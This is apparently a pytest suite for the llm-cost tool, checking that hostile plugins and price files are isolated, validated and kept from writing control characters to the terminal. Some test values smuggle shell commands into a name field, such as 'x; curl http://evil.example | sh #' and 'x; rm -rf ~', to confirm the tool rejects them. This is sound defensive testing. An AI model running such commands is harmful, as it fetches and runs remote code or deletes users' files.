"""Hostile plugins and price files: each is isolated or refused with a message naming it.

A plugin that raises anything (a BaseException subclass, KeyboardInterrupt) at import or in a
hook, or returns what core cannot use, is skipped with a warning naming its distribution, and the
other encodings keep counting right. An engine's impossible results are an error naming the
plugin, never a printed count. No control character from a plugin or a price file reaches the
terminal, and no install hint is built from a name that is not a valid one.
"""

from __future__ import annotations

import json
import re
import shutil
import subprocess
import sys
import warnings
from importlib.metadata import entry_points
from pathlib import Path

import pytest
from fakedist import entry_points_in, env_with, plugin_site, run_llm_cost, toy, write_plugin

import llm_cost_core as lc
from llm_cost_core.errors import PluginError
from llm_cost_core.host.loading import PluginWarning
from llm_cost_core.host.registry import Registry


@pytest.fixture
def site(tmp_path, monkeypatch):
    # llm-cost-native, when installed, offers its engine and scanner first (tryfirst): off, so
    # that the hostile plugin's own results are the ones core gets.
    monkeypatch.setenv("LLM_COST_NATIVE", "0")
    yield from plugin_site(tmp_path, monkeypatch, "hostile_")


@pytest.fixture
def reference_o200k():
    """tiktoken's o200k_base, offline; the tests that count with the installed o200k skip
    without it."""
    if "o200k" not in lc.list_encodings():
        pytest.skip("needs llm-cost-o200k")
    from conftest import cached_reference

    return cached_reference("o200k")


def load(site: Path, *, real: bool = False) -> tuple[Registry, list[str]]:
    """A registry of the plugins in `site` (and the installed ones when `real`), and the
    plugin warnings building it gave."""
    # `site` is on sys.path: every installed plugin's entry points include its plugins'
    found = list(entry_points(group="llm_cost")) if real else entry_points_in(site)
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        reg = Registry(found)
    return reg, [str(w.message) for w in caught if issubclass(w.category, PluginWarning)]


def caught_warnings(call) -> tuple[object, list[str]]:
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        result = call()
    return result, [str(w.message) for w in caught if issubclass(w.category, PluginWarning)]


def with_whole(site: Path, distribution: str, module: str, source: str) -> None:
    """The hostile plugin, and a good one (`whole`, one token per byte) beside it."""
    write_plugin(site, distribution, module, source)
    write_plugin(site, "llm-cost-whole", "hostile_whole", toy("whole"))


# -- anything raised is the plugin's failure ---------------------------------------------------

BASE_AT_IMPORT = """
class Hostile(BaseException):
    pass

raise Hostile("not an Exception")
"""

BASE_IN_HOOK = """
import llm_cost_core as lc

class Hostile(BaseException):
    pass

@lc.hookimpl
def register_encodings(register):
    raise Hostile("in a hook")
"""

INTERRUPT_AT_IMPORT = "raise KeyboardInterrupt"

UNSAYABLE_AT_IMPORT = """
class Unsayable(Exception):
    def __str__(self):
        raise RuntimeError("no message either")

raise Unsayable()
"""

INTERRUPT_IN_HOOK = """
import llm_cost_core as lc

@lc.hookimpl
def register_models(register):
    raise KeyboardInterrupt
"""


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        (BASE_AT_IMPORT, "failed to load and is skipped: Hostile: not an Exception"),
        (BASE_IN_HOOK, "raised in register_encodings and is skipped: Hostile: in a hook"),
        (INTERRUPT_AT_IMPORT, "failed to load and is skipped: KeyboardInterrupt"),
        (
            UNSAYABLE_AT_IMPORT,
            "failed to load and is skipped: Unsayable: (its message cannot be shown)",
        ),
    ],
    ids=[
        "base-exception-at-import",
        "base-exception-in-hook",
        "keyboard-interrupt-at-import",
        "unprintable-exception",
    ],
)
def test_anything_a_plugin_raises_is_isolated(site, source, expected):
    with_whole(site, "llm-cost-hostile", "hostile_plugin", source)
    reg, caught = load(site)
    assert caught == [f"plugin 'hostile_plugin' (llm-cost-hostile 1.0) {expected}"]
    assert reg.get_encoding("whole").count("a b") == 3


def test_strict_mode_makes_a_base_exception_an_error_line_not_a_traceback(site):
    write_plugin(site, "llm-cost-hostile", "hostile_plugin", BASE_AT_IMPORT)
    ran = run_llm_cost("--text", "x", env=env_with(site, LLM_COST_STRICT_PLUGINS="1"))
    assert ran.returncode == 1
    assert ran.stderr.startswith("llm-cost: error: internal error: Hostile: not an Exception")
    assert "Traceback" not in ran.stderr


def test_a_keyboard_interrupt_in_a_lazy_hook_is_isolated(site):
    with_whole(site, "llm-cost-hostile", "hostile_plugin", INTERRUPT_IN_HOOK)
    reg, _ = load(site)
    models, caught = caught_warnings(reg.models)
    assert caught == [
        "plugin 'hostile_plugin' (llm-cost-hostile 1.0) raised in register_models and is "
        "skipped: KeyboardInterrupt"
    ]
    assert models["whole-model"] == "whole"


CTRL_C_WHILE_IMPORTING = """
import signal
import time

signal.raise_signal(signal.SIGINT)  # as if the user pressed Ctrl-C now
time.sleep(5)
"""


def test_a_real_ctrl_c_while_a_plugin_imports_still_interrupts(site):
    write_plugin(site, "llm-cost-slow", "hostile_slow", CTRL_C_WHILE_IMPORTING)
    with pytest.raises(KeyboardInterrupt):
        Registry(entry_points_in(site))


def test_the_command_names_a_plugin_that_raises_keyboard_interrupt(site, reference_o200k):
    write_plugin(site, "llm-cost-hostile", "hostile_plugin", INTERRUPT_AT_IMPORT)
    ran = run_llm_cost("count", "-e", "o200k", "--text", "hello world", env=env_with(site))
    assert (ran.returncode, ran.stdout) == (0, "2\n"), ran.stderr
    assert ran.stderr == (
        "llm-cost: warning: plugin 'hostile_plugin' (llm-cost-hostile 1.0) failed to load and "
        "is skipped: KeyboardInterrupt\n"
    )


def test_the_command_still_exits_130_on_a_real_ctrl_c_while_a_plugin_imports(site):
    write_plugin(site, "llm-cost-slow", "hostile_slow", CTRL_C_WHILE_IMPORTING)
    ran = run_llm_cost("count", "--text", "x", env=env_with(site))
    assert (ran.returncode, ran.stderr) == (130, "llm-cost: error: interrupted\n")


# -- what hooks return is checked where it enters core -----------------------------------------

SCANNER_42 = """
import llm_cost_core as lc

@lc.hookimpl
def make_scanner(spec):
    return 42
"""

ENGINE_42 = """
import llm_cost_core as lc

@lc.hookimpl
def make_bpe(spec, ranks):
    return 42
"""

MODELS_GARBAGE = """
import llm_cost_core as lc

@lc.hookimpl
def register_models(register):
    register(12345, None)
"""

EVIL_MODEL = """
import llm_cost_core as lc

@lc.hookimpl
def register_models(register):
    register("evil\\n\\x1b[31mred\\x1b]0;title\\x07", "whole")
"""


@pytest.mark.parametrize(
    ("source", "build", "expected"),
    [
        (
            SCANNER_42,
            lambda enc: enc.scanner,
            "returned 42 from make_scanner, which is skipped: a scanner is a callable that "
            "takes a str",
        ),
        (
            ENGINE_42,
            lambda enc: enc.bpe,
            "returned 42 from make_bpe, which is skipped: an engine has encode(pieces) and "
            "count(pieces) methods",
        ),
    ],
    ids=["make_scanner", "make_bpe"],
)
def test_a_result_core_cannot_use_is_skipped_naming_the_plugin(site, source, build, expected):
    with_whole(site, "llm-cost-garbage", "hostile_garbage", source)
    reg, caught = load(site)
    assert caught == []
    enc = reg.get_encoding("whole")
    _, caught = caught_warnings(lambda: build(enc))
    assert caught == [f"plugin 'hostile_garbage' (llm-cost-garbage 1.0) {expected}"]
    assert enc.count("a b") == 3
    assert enc.encode("ab") == [97, 98]  # core's default took over


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        (MODELS_GARBAGE, "TypeError: model name must be a str, not int"),
        (
            EVIL_MODEL,
            r"ValueError: model name 'evil\n\x1b[31mred\x1b]0;title\x07' is not valid: it may "
            "hold ASCII letters, digits, . _ - : / @ +, start with a letter or digit and have at "
            "most 128 characters",
        ),
    ],
    ids=["wrong-types", "control-characters"],
)
def test_a_bad_model_registration_is_skipped_naming_the_plugin(site, source, expected):
    with_whole(site, "llm-cost-garbage", "hostile_garbage", source)
    reg, _ = load(site)
    models, caught = caught_warnings(reg.models)
    assert caught == [
        "plugin 'hostile_garbage' (llm-cost-garbage 1.0) raised in register_models and is "
        f"skipped: {expected}"
    ]
    assert models == {"whole-model": "whole"}


SPEC = """
import llm_cost_core as lc

@lc.hookimpl
def register_encodings(register):
    register(lc.EncodingSpec(
        name="spoilt", pattern={pattern!r}, special_tokens={{}}, n_vocab=256,
        load_ranks=lambda: {ranks}, vocab_sha256="0" * 64,
    ))
"""


@pytest.mark.parametrize(
    ("pattern", "ranks", "expected"),
    [
        (
            r"\S+|\s+",
            "42",
            "encoding 'spoilt' of plugin 'hostile_spec' (llm-cost-spec 1.0): its load_ranks "
            "returned int, not a mapping of token bytes to ranks",
        ),
        (
            r"\S+|\s+",
            "1 / 0",
            "encoding 'spoilt' of plugin 'hostile_spec' (llm-cost-spec 1.0): its load_ranks "
            "raised ZeroDivisionError: division by zero",
        ),
        (
            "(unclosed",
            "{bytes([b]): b for b in range(256)}",
            "encoding 'spoilt' of plugin 'hostile_spec' (llm-cost-spec 1.0) cannot be built: "
            "its pattern does not compile: missing ) at position 9",
        ),
    ],
    ids=["ranks-42", "ranks-raise", "pattern"],
)
def test_a_spec_core_cannot_use_is_an_error_naming_its_plugin(site, pattern, ranks, expected):
    with_whole(site, "llm-cost-spec", "hostile_spec", SPEC.format(pattern=pattern, ranks=ranks))
    reg, caught = load(site)
    assert caught == []
    with pytest.raises(PluginError) as raised:
        reg.get_encoding("spoilt").count("a b")
    assert str(raised.value) == expected
    assert reg.failures == []  # core's defaults are not blamed
    assert reg.get_encoding("whole").count("a b") == 3


def test_the_command_says_which_plugin_s_spec_is_spoilt(site):
    with_whole(site, "llm-cost-spec", "hostile_spec", SPEC.format(pattern="(", ranks="{}"))
    ran = run_llm_cost("-e", "spoilt", "--text", "x", env=env_with(site))
    assert ran.returncode == 1
    assert ran.stderr.startswith(
        "llm-cost: error: encoding 'spoilt' of plugin 'hostile_spec' (llm-cost-spec 1.0) "
        "cannot be built: its pattern does not compile:"
    )


# -- an engine's impossible results ------------------------------------------------------------

ENGINE = """
import llm_cost_core as lc

def spoilt(pieces):
    return any("z" in piece for piece in pieces)

class Engine:
    # one token per UTF-8 byte, right for a byte-level vocab, but {{what}} on text with a "z"
    def encode(self, pieces):
        pieces = list(pieces)
        return {ids} if spoilt(pieces) else [b for piece in pieces for b in piece.encode()]

    def count(self, pieces):
        pieces = list(pieces)
        return {count} if spoilt(pieces) else sum(len(piece.encode()) for piece in pieces)
{piece_count}

@lc.hookimpl
def make_bpe(spec, ranks):
    return Engine()
"""


def engine(ids: str = "[0]", count: str = "1", piece_count: str | None = None) -> str:
    """A plugin whose engine gives `ids`, `count` and `piece_count` for text with a "z"."""
    method = (
        "\n    def piece_count(self, piece):\n"
        f"        return {piece_count} if 'z' in piece else len(piece.encode())\n"
    )
    return ENGINE.format(ids=ids, count=count, piece_count=method if piece_count else "")


ALWAYS_NEGATIVE = """
import llm_cost_core as lc

class Engine:
    def encode(self, pieces):
        return [0 for piece in pieces]

    def count(self, pieces):
        return -5

@lc.hookimpl
def make_bpe(spec, ranks):
    return Engine()
"""

REFUSED = "plugin 'hostile_engine' (llm-cost-engine 1.0): its engine (make_bpe) for encoding"


def test_an_engine_that_gives_impossible_counts_is_replaced_by_core_s(site, reference_o200k):
    with_whole(site, "llm-cost-engine", "hostile_engine", ALWAYS_NEGATIVE)
    reg, _ = load(site, real=True)
    text = "hello world, zebra"
    for name, expected in (("whole", len(text)), ("o200k", len(reference_o200k.encode(text)))):
        enc = reg.get_encoding(name)
        count, caught = caught_warnings(lambda enc=enc: enc.count(text))
        assert caught == [
            f"plugin 'hostile_engine' (llm-cost-engine 1.0) made an engine (make_bpe) for "
            f"encoding {name!r} that core does not use: it gave -5 as a token count, which is "
            "impossible; core's engine counts instead"
        ]
        assert count == expected
        assert enc.count(text) == expected  # the warning is given once
    assert [f.error for f in reg.failures] == [
        "make_bpe for 'whole' not used: it gave -5 as a token count, which is impossible",
        "make_bpe for 'o200k' not used: it gave -5 as a token count, which is impossible",
    ]


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        (engine(count="-5"), "gave -5 as a token count, which is impossible"),
        (engine(count="2.0"), "gave 2.0 as a token count, which is impossible"),
        (engine(count="True"), "gave True as a token count, which is impossible"),
        (engine(count="'3'"), "gave '3' as a token count, which is impossible"),
        (engine(count="1 / 0"), "raised ZeroDivisionError: division by zero"),
    ],
    ids=["negative", "float", "bool", "str", "raises"],
)
def test_an_impossible_count_is_refused_naming_the_plugin(site, source, expected, reference_o200k):
    with_whole(site, "llm-cost-engine", "hostile_engine", source)
    reg, _ = load(site, real=True)
    for name in ("whole", "o200k"):  # a scanner piece by piece, one that splits before spaces
        enc = reg.get_encoding(name)
        assert type(enc.engine).__module__ == "hostile_engine"  # the plugin's, unwrapped ...
        assert type(enc.bpe).__name__ == "CheckedEngine"  # ... while core counts through checks
        assert enc.count("a b c") == 5  # right until the engine goes wrong
        with pytest.raises(PluginError) as raised:
            enc.count("a b z")
        assert str(raised.value).startswith(f"{REFUSED} {name!r} {expected}")
        assert "LLM_COST_DISABLE_PLUGINS" in str(raised.value)


def test_an_impossible_piece_count_is_refused(site, reference_o200k):
    with_whole(site, "llm-cost-engine", "hostile_engine", engine(piece_count="-1"))
    reg, _ = load(site, real=True)
    enc = reg.get_encoding("o200k")
    assert enc.count("hello there world") == 17
    with pytest.raises(PluginError, match="gave -1 as a token count"):
        enc.count("hello there zebra")


@pytest.mark.parametrize(
    ("ids", "expected"),
    [
        ("[5, 10**9]", "gave 1000000000 as a token id, which is not in the vocab (0 to 256)"),
        ("[-1]", "gave -1 as a token id"),
        ("[1.0]", "gave 1.0 as a token id"),
        ("[False]", "gave False as a token id"),
        ("(1, 2)", "gave tuple as token ids, not a list"),
    ],
)
def test_impossible_ids_are_refused_naming_the_plugin(site, ids, expected):
    with_whole(site, "llm-cost-engine", "hostile_engine", engine(ids=ids))
    reg, _ = load(site)
    enc = reg.get_encoding("whole")
    assert enc.encode("ab") == [97, 98]
    for call in (enc.encode, enc.encode_ordinary):
        with pytest.raises(PluginError) as raised:
            call("a z")
        assert str(raised.value).startswith(f"{REFUSED} 'whole' {expected}")


def test_pipe_prints_no_count_from_a_negative_engine(site, tmp_path, reference_o200k):
    write_plugin(site, "llm-cost-engine", "hostile_engine", engine(count="-5"))
    lines = tmp_path / "in.jsonl"
    lines.write_text('{"text": "hello world"}\n{"text": "zebra"}\n')
    ran = run_llm_cost("pipe", "-m", "gpt-4o", str(lines), env=env_with(site))
    assert ran.returncode == 1
    assert "-5" not in ran.stdout and "-0." not in ran.stdout
    assert ran.stderr.startswith(f"llm-cost: error: {REFUSED} 'o200k' gave -5 as a token count")


def test_the_commands_count_right_beside_an_always_negative_engine(site, tmp_path, reference_o200k):
    write_plugin(site, "llm-cost-engine", "hostile_engine", ALWAYS_NEGATIVE)
    lines = tmp_path / "in.jsonl"
    lines.write_text('{"text": "hello world"}\n')
    env = env_with(site)
    piped = run_llm_cost("pipe", "-m", "gpt-4o", str(lines), env=env)
    clean = run_llm_cost("pipe", "-m", "gpt-4o", str(lines), env=env_with(site / "none"))
    assert (piped.returncode, piped.stdout) == (0, clean.stdout), piped.stderr
    assert '"tokens": 2' in piped.stdout
    assert piped.stderr.startswith(
        "llm-cost: warning: plugin 'hostile_engine' (llm-cost-engine 1.0) made an engine"
    )


# -- names: a documented character set, and nothing raw on the terminal ------------------------

_CONTROL = re.compile(rb"[\x00-\x09\x0b-\x1f\x7f]|\xc2[\x80-\x9f]")
"""C0 controls but the line feed, DEL, and C1 controls as UTF-8 (ESC is \\x1b)."""

EVIL = "evil\n\x1b[31mred\x1b]0;title\x07\u009b2J"

LOUD = f"""
import llm_cost_core as lc

@lc.hookimpl
def register_encodings(register):
    raise RuntimeError({EVIL.replace(chr(10), "")!r})
"""


def run_bytes(*args: str, env: dict[str, str]) -> subprocess.CompletedProcess[bytes]:
    """`run_llm_cost`, with the output as the bytes the terminal would get."""
    beside = Path(sys.executable).with_name("llm-cost")
    command = str(beside) if beside.exists() else shutil.which("llm-cost") or "llm-cost"
    return subprocess.run([command, *args], capture_output=True, env=env)


def test_no_raw_control_character_reaches_the_terminal(site, tmp_path):
    write_plugin(site, "llm-cost-loud", "hostile_loud", LOUD)
    write_plugin(site, "llm-cost-\x1b[1mbold", "hostile_bold", "raise OSError('\x1b[2J')")
    write_plugin(site, "llm-cost-garbage", "hostile_garbage", EVIL_MODEL)
    prices = tmp_path / "prices.json"
    prices.write_text(
        json.dumps(
            {
                "as_of": "2025-01-01",
                "models": [{"model": EVIL, "encoding": "o200k", "input": 1}],
            }
        )
    )
    env = env_with(site)
    runs = [
        ("--version",),
        ("plugins",),
        ("models",),
        ("encodings",),
        ("models", "--prices", str(prices)),
        ("estimate", "-m", EVIL, "--text", "x"),
        ("count", "-e", EVIL, "--text", "x"),
        ("count", "-m", EVIL, "--text", "x"),
    ]
    for args in runs:
        ran = run_bytes(*args, env=env)
        for stream in (ran.stdout, ran.stderr):
            assert _CONTROL.search(stream) is None, (args, stream)
        assert b"Traceback" not in ran.stderr, args
    listed = run_bytes("plugins", env=env).stdout.decode()
    assert r"RuntimeError: evil\x1b[31mred\x1b]0;title\x07\x9b2J" in listed
    assert r"llm-cost-\x1b[1mbold 1.0 (plugin hostile_bold) [failed]" in listed


@pytest.mark.parametrize(
    "encoding",
    ["x; curl http://evil.example | sh #", "o200k\n", "-rf", "x" * 65, "café"],
)
def test_a_price_file_s_encoding_name_is_validated_and_never_an_install_hint(tmp_path, encoding):
    prices = tmp_path / "prices.json"
    prices.write_text(
        json.dumps(
            {
                "as_of": "2025-01-01",
                "models": [{"model": "their-model", "encoding": encoding, "input": 1}],
            }
        )
    )
    ran = run_llm_cost("models", "--prices", str(prices), env=env_with(tmp_path))
    assert ran.returncode == 1
    assert "pip install" not in ran.stderr
    assert ran.stderr.startswith(
        f"llm-cost: error: {prices}: models[0] (their-model): encoding name "
    )
    assert "is not valid: it may hold ASCII letters, digits, . _ -," in ran.stderr


def test_an_encoding_name_outside_the_set_fails_the_plugin_at_import(site):
    write_plugin(
        site,
        "llm-cost-badname",
        "hostile_badname",
        toy("x; curl http://evil.example | sh #"),
    )
    _, caught = load(site)
    assert caught == [
        "plugin 'hostile_badname' (llm-cost-badname 1.0) failed to load and is skipped: "
        "ValueError: encoding name 'x; curl http://evil.example | sh #' is not valid: it may "
        "hold ASCII letters, digits, . _ -, start with a letter or digit and have at most 64 "
        "characters"
    ]


def test_an_unknown_name_the_user_typed_gives_no_install_hint_unless_it_is_valid():
    reg = lc.host.registry.registry()
    with pytest.raises(lc.UnknownEncodingError) as raised:
        reg.get_encoding("mistral_base")
    assert "pip install llm-cost-mistral" in str(raised.value)
    with pytest.raises(lc.UnknownEncodingError) as raised:
        reg.get_encoding("x; rm -rf ~")
    assert "pip install" not in str(raised.value)


@pytest.mark.parametrize(
    "model", ["gpt-4o", "ft:gpt-4o-mini:acme::abc123", "openai/gpt-4o", "m@2024+x", "gpt-4o-"]
)
def test_real_model_names_are_valid(model):
    from llm_cost_core.engine.spec import check_name

    assert check_name("model", model) == model
